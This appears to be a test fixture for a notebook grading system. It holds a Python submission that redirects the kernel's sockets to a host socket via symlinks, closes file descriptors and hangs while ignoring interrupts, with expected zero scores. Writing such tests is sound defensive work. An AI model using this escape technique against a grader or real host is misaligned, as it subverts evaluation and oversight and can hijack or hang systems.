# tries: to put links to the host's socket in the place of its own sockets and to fall silent, so that the grader
#        connects again, to the host
# must: not make the grader connect to anything
# scores: check_similarity=0 check_predictions=0

# %% similarity
import os
import time

from ipykernel.kernelapp import IPKernelApp

application = IPKernelApp.instance()
for port in range(1, 60):
    try:
        os.unlink(f"{application.ip}-{port}")
        os.symlink("@SOCKET@", f"{application.ip}-{port}")
    except OSError:
        pass
os.closerange(3, 1024)
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass
